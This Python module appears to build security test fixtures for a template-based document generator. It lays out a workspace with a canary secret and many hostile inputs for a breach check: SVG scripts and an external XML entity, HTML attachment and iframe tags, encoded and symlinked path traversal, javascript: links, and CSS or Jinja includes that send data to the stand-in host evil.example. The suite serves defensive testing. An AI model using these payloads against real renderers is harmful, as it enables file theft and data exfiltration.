"""Attacks by whoever writes templates, style sheets, brands, prose or Word files: each tries to take something along, or to reach outside.

A breach is a file of the output that holds the secret, or sends whoever opens it to the attacker (`breach.py`).
"""

import base64
import io
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "CANARY-7f3a9c41"
EVIL = "evil.example"
PLAN = "specialist"
RESULTS = f"results/{PLAN}/2026-Q3.csv"

_HEADER = "{#---\ntitle: 通知\nscope: plan\n---#}\n"
_FRAME = '{% extends "base.html.j2" %}{% block content %}BODY{% endblock %}'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">CONTENT</svg>'


def _png(note: str) -> bytes:
    """A picture of one pixel that says something."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"tEXt", b"Comment\0" + note.encode())
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def _jpeg(note: str) -> bytes:
    """A picture that PDFs, too, hold as it is."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, "JPEG", comment=note.encode())
    return out.getvalue()


def workspace(root: Path) -> None:
    """Write a workspace with a plan, results with a secret in them, and pictures in and outside of it."""
    texts = {
        "genplan.yml": "schema: 1\n",
        f"plans/{PLAN}.md": (
            "---\nschema: 1\ntitle: 考核方案\ndepartment: 运营部\nposition: 专员\ncycle: quarterly\nperiod: 2026-Q3\n"
            "indicators:\n  - {name: 质量, weight: 100%, scoring: direct, definition: 甲, source: 乙}\n"
            f"results: {RESULTS}\ndocuments: [KINDS]\n---\n# 考核目的\n\n目的。\n"
        ),
        f"plans/{RESULTS}": f"工号,姓名,质量,评语,打开密码\n0001,测试甲,90,{SECRET},{SECRET}\n",
        "plans/notes.txt": SECRET,
        "plans/data.svg": SECRET,
        "pictures/notes.txt": SECRET,
        "templates/secret.txt": SECRET,
        "templates/plain.csv": SECRET,
    }
    for name, text in texts.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    outside = root.parent / f"{root.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.jpg").write_bytes(_jpeg(SECRET))
    (outside / "secret.txt").write_text(SECRET)
    for folder in ("pictures", "plans"):
        (root / folder / "fake.png").write_text(SECRET)
        (root / folder / "results.PNG").write_text((root / "plans" / RESULTS).read_text("utf-8"), "utf-8")
        (root / folder / "linked.jpg").symlink_to(outside / "secret.jpg")
        (root / folder / "linked.png").symlink_to(root / "plans" / RESULTS)
        (root / folder / "up").symlink_to(outside)
        for name, content in DRAWINGS.items():
            (root / folder / f"{name}.svg").write_text(content, "utf-8")


DRAWINGS = {
    "script": _SVG.replace("CONTENT", f'<script href="https://{EVIL}/x.js"/>'),
    "inline-script": _SVG.replace("CONTENT", f"<script>location='https://{EVIL}/'</script>"),
    "handler": _SVG.replace("CONTENT", f"<rect width='9' height='9' onclick=\"location='https://{EVIL}/'\"/>"),
    "image": _SVG.replace("CONTENT", f'<image href="{RESULTS}" width="9" height="9"/>'),
    "remote-image": _SVG.replace("CONTENT", f'<image xlink:href="https://{EVIL}/x.png" width="9" height="9"/>'),
    "foreign": _SVG.replace(
        "CONTENT", f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://{EVIL}/"/></foreignObject>'
    ),
    "use": _SVG.replace("CONTENT", f'<use href="https://{EVIL}/x.svg#a"/>'),
    "style": _SVG.replace("CONTENT", f"<style>@import url(https://{EVIL}/x.css);</style>"),
    "paint": _SVG.replace("CONTENT", f'<rect width="9" height="9" fill="url(https://{EVIL}/x.svg#a)"/>'),
    "entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{RESULTS}">]>' + _SVG.replace("CONTENT", "<text>&a;</text>"),
    "sheet": f'<?xml-stylesheet href="https://{EVIL}/x.css"?>' + _SVG.replace("CONTENT", "<rect/>"),
    "animation": _SVG.replace("CONTENT", f'<a><set attributeName="href" to="https://{EVIL}/"/><rect width="9" height="9"/></a>'),
}

BODIES = {
    # Attaching and embedding
    "attachment": f'<a rel="attachment" href="{RESULTS}">.</a>',
    "attachment-upper-case": f"<A REL='Attachment' HREF={RESULTS}>.</A>",
    "attachment-of-two": f'<a rel="nofollow attachment" href="{RESULTS}">.</a>',
    "attachment-tab": f'<a rel="x&#9;attachment" href="./results/../{RESULTS}">.</a>',
    "attachment-encoded": '<a rel="attachment" href="%72esults/specialist/2026%2DQ3.csv">.</a>',
    "attachment-notes": '<a rel="attachment" href="notes.txt">.</a>',
    "attachment-of-theme": '<a rel="attachment" href="secret.txt">.</a>',
    "attachment-linked": '<a rel="attachment" href="linked.png">.</a>',
    "attachment-computed": "{% set x = 'attach' ~ 'ment' %}" + f'<a rel="{{{{ x }}}}" href="{RESULTS}">.</a>',
    "link-attachment": f'<link rel="attachment" href="{RESULTS}">',
    "object": f'<object data="{RESULTS}" type="text/csv">.</object>',
    "object-as-picture": f'<object data="{RESULTS}" type="image/png">.</object>',
    "embed": f'<embed src="{RESULTS}">',
    "embed-svg": '<embed src="data.svg" type="image/svg+xml">',
    "iframe": f'<iframe src="{RESULTS}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="&lt;img src=https://{EVIL}/&gt;"></iframe>',
    "frame": f'<frameset><frame src="{RESULTS}"></frameset>',
    "portal": f'<portal src="https://{EVIL}/"></portal>',
    # Pictures that are none, or stand elsewhere
    "picture-csv": f'<img src="{RESULTS}" alt="x">',
    "picture-csv-encoded": '<img src="results/specialist/2026%2DQ3%2Ecsv" alt="x">',
    "picture-csv-dots": '<img src="./results/./specialist/2026-Q3.csv" alt="x">',
    "picture-text": '<img src="notes.txt" alt="x">',
    "picture-of-theme-text": '<img src="secret.txt" alt="x">',
    "picture-of-theme-csv": '<img src="plain.csv" alt="x">',
    "picture-fake": '<img src="fake.png" alt="x">',
    "picture-fake-upper-case": '<img src="results.PNG" alt="x">',
    "picture-linked": '<img src="linked.png" alt="x">',
    "picture-linked-outside": '<img src="linked.jpg" alt="x">',
    "picture-by-linked-folder": '<img src="up/secret.jpg" alt="x">',
    "picture-climbs": '<img src="../../NAME-outside/secret.jpg" alt="x">',
    "picture-climbs-encoded": '<img src="%2e%2e/%2e%2e/NAME-outside/secret.jpg" alt="x">',
    "picture-climbs-twice-encoded": '<img src="%252e%252e/%252e%252e/NAME-outside/secret.jpg" alt="x">',
    "picture-climbs-by-folder": '<img src="../pictures/../../NAME-outside/secret.jpg" alt="x">',
    "picture-backslash": r'<img src="..\..\NAME-outside\secret.jpg" alt="x">',
    "picture-absolute": '<img src="ROOT-outside/secret.jpg" alt="x">',
    "picture-file": '<img src="file://ROOT-outside/secret.jpg" alt="x">',
    "picture-file-localhost": '<img src="file://localhostROOT-outside/secret.jpg" alt="x">',
    "picture-nul": f'<img src="{RESULTS}%00.png" alt="x">',
    "picture-drive": r'<img src="C:\secret.png" alt="x">',
    "picture-share": rf'<img src="\\{EVIL}\share\x.png" alt="x">',
    "picture-remote": f'<img src="https://{EVIL}/x.png" alt="x">',
    "picture-remote-short": f'<img src="//{EVIL}/x.png" alt="x">',
    "picture-data": f'<img src="data:image/svg+xml;base64,{base64.b64encode(DRAWINGS["remote-image"].encode()).decode()}" alt="x">',
    "picture-set": f'<img src="images/logo.png" srcset="https://{EVIL}/x.png 2x" alt="x">',
    "picture-element": f'<picture><source srcset="https://{EVIL}/x.png"><img src="images/logo.png" alt="x"></picture>',
    "picture-lazy": f'<img src="images/logo.png" longdesc="https://{EVIL}/" usemap="#m" alt="x">',
    **{f"svg-{name}": f'<img src="{name}.svg" alt="x">' for name in DRAWINGS},
    # Loading
    "script": f'<script src="https://{EVIL}/x.js"></script>',
    "handler": f"<p onclick=\"location='https://{EVIL}/'\">x</p>",
    "sheet": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    "icon": f'<link rel="icon" href="https://{EVIL}/x.ico">',
    "base": f'<base href="https://{EVIL}/"><img src="images/logo.png" alt="x">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "video": f'<video src="{RESULTS}" poster="https://{EVIL}/x.png"></video>',
    "audio": f'<audio src="https://{EVIL}/x.mp3"></audio>',
    "form": f'<form action="https://{EVIL}/"><input type="image" src="https://{EVIL}/x.png"></form>',
    "background": f'<table background="https://{EVIL}/x.png"><tr><td>x</td></tr></table>',
    "drawing-image": f'<svg viewBox="0 0 9 9" width="9mm" height="9mm"><title>x</title><image href="{RESULTS}"/></svg>',
    "drawing-script": f'<svg viewBox="0 0 9 9" width="9mm" height="9mm"><title>x</title><script>location="https://{EVIL}/"</script></svg>',
    "drawing-paint": f'<svg viewBox="0 0 9 9" width="9mm" height="9mm"><title>x</title><rect fill="url(https://{EVIL}/a.svg#b)"/></svg>',
    "drawing-foreign": f'<svg viewBox="0 0 9 9" width="9mm" height="9mm"><title>x</title><foreignObject><iframe src="https://{EVIL}/"></iframe></foreignObject></svg>',
    "math": f'<math><annotation-xml encoding="text/html"><iframe src="https://{EVIL}/"></iframe></annotation-xml></math>',
    # Links that do harm where they are opened
    "link-file": f'<a href="file:///etc/{EVIL}">x</a>',
    "link-script": f"<a href=\"javascript:location='https://{EVIL}/'\">x</a>",
    "link-data": f'<a href="data:text/html,{EVIL}">x</a>',
    "link-relative": f'<a href="../../{EVIL}.exe">x</a>',
    # Styles
    "style-url": f'<p style="background: url(https://{EVIL}/x.png)">x</p>',
    "style-escaped": rf'<p style="background: u\72l(https://{EVIL}/x.png)">x</p>',
    "style-comment": f'<p style="background:/**/url(/**/https://{EVIL}/x.png)">x</p>',
    "style-set": f"<p style=\"background: image-set('https://{EVIL}/x.png' 1x)\">x</p>",
    "style-attr": f'<p data-x="https://{EVIL}/x.png" style="content: attr(data-x url)">x</p>',
    "style-link": f'<p style="-weasy-link: url(file:///{EVIL})">x</p>',
    "style-variable": f'<p style="--x: url(https://{EVIL}/x.png); background: var(--x)">x</p>',
    "style-element": f"<style>p {{ background: url(https://{EVIL}/x.png) }}</style><p>x</p>",
    "style-import": f'<style>@import "https://{EVIL}/x.css";</style>',
    "style-import-csv": f"<style>@import url({RESULTS});</style>",
    "style-font": f"<style>@font-face {{ font-family: x; src: url(https://{EVIL}/x.ttf) }} p {{ font-family: x }}</style><p>x</p>",
    "style-content": f"<style>p::before {{ content: url({RESULTS}) }}</style><p>x</p>",
    # Files as text
    "include-results": f"{{% include '../plans/{RESULTS}' %}}",
    "include-theme-text": "{% include 'secret.txt' %}",
    "include-theme-csv": "<p>{% include 'plain.csv' %}</p>",
    "import-theme-text": "{% import 'secret.txt' as x %}{{ x }}",
    "include-by-link": "{% include 'up/secret.txt' %}",
}
"""What stands in a template's content, by name. NAME and ROOT stand for the workspace's own folder."""


@dataclass(frozen=True)
class Attack:
    """Files laid over the workspace, and the documents to build; links by where they lead."""

    files: Mapping[str, str | bytes] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    kinds: tuple[str, ...] = ("x",)
    settings: str = "schema: 1\n"
    prose: str = ""

    def write(self, root: Path) -> None:
        """Write the workspace with this attack in it."""
        workspace(root)
        (root / "genplan.yml").write_text(self.settings)
        plan = root / "plans" / f"{PLAN}.md"
        plan.write_text(plan.read_text("utf-8").replace("KINDS", ", ".join(self.kinds)) + self._named(self.prose, root), "utf-8")
        files: dict[str, str | bytes] = {"templates/kinds/x.html.j2": _HEADER + _FRAME.replace("BODY", "<p>x</p>")}
        for name, content in (files | dict(self.files)).items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else self._named(content, root).encode())
        for name, target in self.links.items():
            path = root / name
            if path.is_dir():
                path.rename(f"{path}-before")
            path.symlink_to(self._named(target, root))

    def _named(self, text: str, root: Path) -> str:
        return text.replace("NAME", root.name).replace("ROOT", str(root))


def bodies() -> Attack:
    """All that templates try, each in a kind of its own."""
    files = {f"templates/kinds/{name}.html.j2": _HEADER + _FRAME.replace("BODY", body) for name, body in BODIES.items()}
    whole = "<!DOCTYPE html><html lang='zh-CN'><head><title>x</title>TAG</head><body><main><p>x</p></main></body></html>"
    heads = {
        "head-attachment": f'<link rel="attachment" href="{RESULTS}">',
        "head-sheet": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
        "head-style": f"<style>body {{ background: url({RESULTS}) }}</style>",
        "head-refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    }
    files |= {f"templates/kinds/{name}.html.j2": _HEADER + whole.replace("TAG", tag) for name, tag in heads.items()}
    return Attack(files, kinds=(*BODIES, *heads))


def _brand(lines: str) -> str:
    return f"meta: {{name: 甲}}\n{lines}\n"


def _font(path: str) -> str:
    return _brand(f"typography: {{fonts: [{{family: X, source: file, files: [{path}]}}], base: X}}")


WORKSPACES = {
    **{
        f"sheet-{name}": Attack({"templates/styles/custom.css": rules})
        for name, rules in {
            "url": f"p {{ background: url(https://{EVIL}/x.png) }}",
            "csv": f"p {{ background: url({RESULTS}) }}",
            "fake": "p { background: url(fake.png) }",
            "text-of-theme": "p { background: url(secret.txt) }",
            "import": f'@import "https://{EVIL}/x.css";',
            "import-csv": f"@import url({RESULTS});",
            "font": f"@font-face {{ font-family: x; src: url(https://{EVIL}/x.ttf) }} p {{ font-family: x }}",
            "font-csv": "@font-face { font-family: x; src: url(plain.csv) } p { font-family: x }",
            "profile": f"@color-profile --x {{ src: url(https://{EVIL}/x.icc) }}",
            "escaped": rf"p {{ background: \75\72\6c(https://{EVIL}/x.png) }}",
            "list": f"li {{ list-style-image: url(https://{EVIL}/x.png) }}",
            "border": f"p {{ border-image-source: url(https://{EVIL}/x.png) }}",
            "link": f"p {{ link: url(file:///{EVIL}) }}",
            "link-attr": "p { -weasy-link: attr(data-x) }",
            "string": f"p::before {{ content: url(https://{EVIL}/x.png) }}",
        }.items()
    },
    "page-sheet": Attack({"templates/styles/page.css": f"body {{ background: url(https://{EVIL}/x.png) }}"}),
    "page-script": Attack({"templates/portal/index.js": f"location = 'https://{EVIL}/'"}),
    "page-template": Attack({"templates/portal/index.html.j2": f"<script src='https://{EVIL}/x.js'></script>"}),
    "logo-csv": Attack({"templates/brand.yml": _brand("logo: plain.csv")}),
    "logo-fake": Attack({"templates/brand.yml": _brand("logo: images/x.png"), "templates/images/x.png": SECRET}),
    "logo-climbs": Attack({"templates/brand.yml": _brand(f"logo: ../plans/{RESULTS}")}),
    "logo-script": Attack({"templates/brand.yml": _brand("logo: x.svg"), "templates/x.svg": DRAWINGS["inline-script"]}),
    "logo-linked": Attack({"templates/brand.yml": _brand("logo: x.jpg")}, {"templates/x.jpg": "ROOT-outside/secret.jpg"}),
    "font-csv": Attack({"templates/brand.yml": _font("plain.csv")}),
    "font-fake": Attack({"templates/brand.yml": _font("x.ttf"), "templates/x.ttf": SECRET}),
    "prose-csv": Attack(prose=f"![x]({RESULTS})\n"),
    "prose-fake": Attack(prose="![x](fake.png)\n"),
    "prose-linked": Attack(prose="![x](linked.jpg)\n"),
    "prose-climbs": Attack(prose="![x](../../NAME-outside/secret.jpg)\n"),
    "prose-beside": Attack({"plans/beside.jpg": _jpeg(SECRET)}, prose="![x](beside.jpg)\n"),
    "prose-svg": Attack(prose="![x](inline-script.svg)\n"),
    "prose-remote": Attack(prose=f"![x](https://{EVIL}/x.png)\n"),
    "pictures-linked": Attack(links={"pictures": "ROOT-outside"}, prose="![x](secret.jpg)\n"),
    "template-linked": Attack(
        {"templates/kinds/x.html.j2": _HEADER + _FRAME.replace("BODY", "{% include 'more.html.j2' %}")},
        {"templates/more.html.j2": "ROOT-outside/secret.txt"},
    ),
    "templates-everywhere": Attack(
        {"kinds/x.html.j2": _HEADER + _FRAME.replace("BODY", f"{{% include 'plans/{RESULTS}' %}}")}, settings="templates: .\n"
    ),
}
"""Attacks by other files than a template's content."""
